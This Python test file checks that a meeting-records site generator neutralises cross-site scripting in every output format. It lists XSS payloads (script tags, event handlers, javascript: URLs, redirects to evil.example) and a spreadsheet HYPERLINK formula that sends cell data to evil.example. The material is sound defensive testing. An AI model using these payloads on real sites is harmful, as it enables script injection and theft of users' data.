"""Script never runs from content.

Well-known cross-site scripting payloads (tests/hostile.py) are put in every field that
reaches a page: titles and headings, people's names, honorifics, positions and parties,
boards' names, venues and remits, attendees, declarations, documents, links and
cross-reference labels, reports, recordings, resolutions and the site's own title, contact
and licence. The site is built with its search index and every file of it is read as the
program that opens it would read it: pages as HTML, feeds as Atom (with their HTML
content), calendars as iCalendar, open data as JSON and CSV, the sitemap, the search
index's fragments. Nothing may be able to run script; and the text of titles and names
must still be there for the reader, shown as text.
"""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from pathlib import Path

import icalendar
import pytest
from bs4 import BeautifulSoup
from conftest import build, make_site
from hostile import (
    LINE,
    MARKDOWN_PAYLOADS,
    MEETING_URL,
    SEEN,
    SITE_TITLE,
    build_hostile,
    csv_problems,
    html_problems,
    output_files,
    pagefind_fragment,
    scan_output,
)
from pages import page, text

ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture(scope="session")
def hostile_build(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, list[str]]]:
    return build_hostile(tmp_path_factory)


def words(value: str) -> str:
    """Text as pages.text() gives it: runs of white space made one space."""
    return " ".join(value.split())


def test_no_file_of_the_built_site_can_run_script(hostile_build: tuple[Path, dict[str, list[str]]]) -> None:
    output, _ = hostile_build
    assert scan_output(output) == []


def test_every_kind_of_file_was_read(hostile_build: tuple[Path, dict[str, list[str]]]) -> None:
    """The scan above looked at pages, feeds, calendars, data, the sitemap and the search index."""
    output, _ = hostile_build
    kinds = {rel.rsplit(".", 1)[-1] for rel, _ in output_files(output)}
    assert {"html", "xml", "ics", "json", "csv", "pf_fragment"} <= kinds
    assert len([rel for rel, _ in output_files(output) if rel.endswith(".html")]) >= 20


def test_titles_and_names_are_shown_as_text_where_they_belong(hostile_build: tuple[Path, dict[str, list[str]]]) -> None:
    output, visible = hostile_build
    for url, values in visible.items():
        shown = text(page(output, url))
        for value in values:
            assert words(value) in shown, f"{url} does not show {value[:30]}... as text"


def test_the_payload_survives_as_text_in_the_title_and_the_share_metadata(
        hostile_build: tuple[Path, dict[str, list[str]]]) -> None:
    output, visible = hostile_build
    soup = page(output, MEETING_URL)
    meeting_title = visible[MEETING_URL][0]
    assert meeting_title in soup.title.string and SITE_TITLE in soup.title.string
    assert meeting_title in soup.find("meta", property="og:title")["content"]
    assert soup.find("meta", property="og:site_name")["content"] == SITE_TITLE
    venue = visible[MEETING_URL][1]
    assert venue in soup.find("meta", property="og:description")["content"]


def test_json_ld_means_what_the_content_says(hostile_build: tuple[Path, dict[str, list[str]]]) -> None:
    """The escaped JSON-LD still holds the venue and title exactly as written."""
    output, visible = hostile_build
    [script] = page(output, MEETING_URL).find_all("script", type="application/ld+json")
    assert "<" not in script.string
    event = json.loads(script.string)
    assert event["location"]["name"] == visible[MEETING_URL][1]
    assert visible[MEETING_URL][0] in event["name"]


def test_feeds_calendars_and_data_carry_the_text_unchanged(hostile_build: tuple[Path, dict[str, list[str]]]) -> None:
    output, visible = hostile_build
    item_title = visible[MEETING_URL][10]
    venue = visible[MEETING_URL][1]
    feed = ET.fromstring((output / "feed.xml").read_bytes())
    assert feed.find(f"{ATOM}title").text.startswith(SITE_TITLE)
    titles = [entry.find(f"{ATOM}title").text for entry in feed.iter(f"{ATOM}entry")]
    assert any(item_title in title for title in titles)
    contents = [BeautifulSoup(entry.find(f"{ATOM}content").text, "html.parser").get_text()
                for entry in feed.iter(f"{ATOM}entry")]
    assert any(venue in content for content in contents)
    calendar = icalendar.Calendar.from_ical((output / "calendar.ics").read_bytes())
    [event] = [e for e in calendar.walk("VEVENT") if "2020-02-12" in str(e.get("URL"))]
    assert str(event["LOCATION"]) == venue
    decisions = [decision for piece in (output / "data/boards").rglob("decisions.json")
                 for decision in json.loads(piece.read_bytes())["decisions"]]
    assert item_title in [decision["title"] for decision in decisions]
    people = json.loads((output / "data/people.json").read_bytes())["persons"]
    assert visible["/people/jane-smith/"][0] in [person["name"] for person in people]


def test_the_search_index_holds_the_text_of_titles(hostile_build: tuple[Path, dict[str, list[str]]]) -> None:
    output, visible = hostile_build
    fragments = [pagefind_fragment(path.read_bytes()) for path in (output / "pagefind").glob("*/fragment/*")]
    meeting = next(f for f in fragments if f["url"].endswith("/2020-02-12/"))
    assert visible[MEETING_URL][0] in meeting["meta"]["title"]


def test_template_syntax_in_content_is_shown_not_run(hostile_build: tuple[Path, dict[str, list[str]]]) -> None:
    output, _ = hostile_build
    shown = text(page(output, MEETING_URL))
    assert "{{ 7*7 }} {% raw %}" in shown
    assert "49 {% raw %}" not in shown and "{{ 49 }}" not in shown


def test_bodies_keep_their_ordinary_text_and_show_code_as_code(hostile_build: tuple[Path, dict[str, list[str]]]) -> None:
    """The sanitiser removes what is dangerous and nothing else: every body's ordinary text
    is on its page, and a payload in a code block is shown as code."""
    output, _ = hostile_build
    for url, label in [(MEETING_URL, "INTRO"), (MEETING_URL, "ITEM-TEXT"), (MEETING_URL + "pc3/", "REASONS"),
                       (MEETING_URL + "pc3/", "ALTERNATIVES"), ("/boards/planning-committee/", "REMIT"),
                       ("/people/jane-smith/", "BIOGRAPHY"), (MEETING_URL + "reports/valuation/", "REPORT-BODY")]:
        shown = text(page(output, url))
        assert f"{label} begins." in shown, url
        for number in range(SEEN):
            if "\n" not in MARKDOWN_PAYLOADS[number]:
                assert f"{label} {number}: before" in shown, (url, MARKDOWN_PAYLOADS[number])
    shown = text(page(output, MEETING_URL))
    for number in range(len(MARKDOWN_PAYLOADS)):
        assert f"PAYLOAD-{number} begins." in shown
    codes = [code.get_text() for code in page(output, MEETING_URL).find_all("code")]
    assert "<script>alert(1)</script>" in codes


def test_cross_reference_labels_are_text(hostile_build: tuple[Path, dict[str, list[str]]]) -> None:
    output, _ = hostile_build
    soup = page(output, MEETING_URL)
    labels = {words(a.get_text()): a.get("href") for a in soup.select(".item a")}
    assert labels.get("javascript:alert(1)") == "../../../people/jane-smith/"
    # A label is inline Markdown, as link text is: its markup is cleaned, and it cannot change the target.
    assert labels.get('">') == "../2020-01-15/pc1/"


# --- The scanner itself ----------------------------------------------------------------------------
#
# The tests above pass only if the scanner finds nothing; these show that it finds what it
# looks for, so that a page with any of these would fail them.

CAUGHT = [
    "<script>alert(1)</script>",
    '<script src="https://evil.example/x.js"></script>',
    '<script type="application/ld+json">{"a": "</script>"}</script>',
    '<script type="application/ld+json">not json</script>',
    '<img src="x.png" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JAVA\tSCRIPT:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<iframe src="https://example.org/"></iframe>',
    "<object></object>",
    "<embed>",
    "<style>p{}</style>",
    '<p style="color:red">x</p>',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<svg><a href="https://example.org/"><text>x</text></a></svg>',
    "<math><mi>x</mi></math>",
    '<div onmouseover="alert(1)">x</div>',
]
ALLOWED = [
    '<script src="../static/search.js" defer></script>',
    '<script src="../pagefind/people/pagefind-ui.js" defer></script>',
    '<script type="application/ld+json">{"name": "\\u003cscript\\u003e"}</script>',
    '<link rel="icon" href="data:,">',
    '<a href="https://example.org/">x</a>',
    '<svg viewBox="0 0 10 10"><title>Chart</title><g><rect width="1" height="1"></rect><text>1</text></g></svg>',
]


@pytest.mark.parametrize("markup", CAUGHT)
def test_the_scanner_catches(markup: str) -> None:
    assert html_problems("page.html", f"<html><body>{markup}</body></html>") != []


@pytest.mark.parametrize("markup", ALLOWED)
def test_the_scanner_allows_the_sites_own(markup: str) -> None:
    assert html_problems("page.html", f"<html><head>{markup}</head></html>") == []


# --- Spreadsheets -----------------------------------------------------------------------------------

def test_a_title_that_is_a_formula_is_not_run_by_a_spreadsheet(tmp_path: Path) -> None:
    meeting = "content/meetings/planning-committee/2020-01-15.md"
    original = (make_site(tmp_path / "probe", {}) / meeting).read_text(encoding="utf-8")
    formula = '=HYPERLINK("https://evil.example/?d="&A2,"Click for the plans")'
    site = make_site(tmp_path / "site", {meeting: original.replace("Land at Mill Lane", formula)})
    output = tmp_path / "output"
    assert build(site, output).ok
    data = (output / "data/decisions.csv").read_bytes()
    assert formula.encode() in data or formula.replace('"', '""').encode() in data  # the title is published ...
    assert csv_problems("data/decisions.csv", data) == []  # ... but not as a formula


def test_the_site_title_in_every_page_footer_is_text(hostile_build: tuple[Path, dict[str, list[str]]]) -> None:
    output, _ = hostile_build
    for rel, path in output_files(output):
        if rel.endswith(".html"):
            soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
            assert words(LINE) in text(soup.find("header")), rel
